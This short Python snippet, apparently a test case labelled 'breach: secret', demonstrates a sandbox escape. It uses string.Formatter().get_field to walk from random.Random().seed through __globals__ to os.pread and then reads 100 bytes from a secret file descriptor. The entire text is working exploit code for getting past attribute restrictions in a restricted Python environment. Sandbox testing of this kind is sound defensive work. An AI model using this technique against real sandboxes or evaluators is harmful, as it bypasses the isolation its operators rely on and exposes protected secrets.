# string.Formatter gets a field by a path of attributes.
# breach: secret
import random, string
read, _ = string.Formatter().get_field("0.seed.__globals__[_os].pread", [random.Random()], {})
read(SECRET_FD, 100, 0)
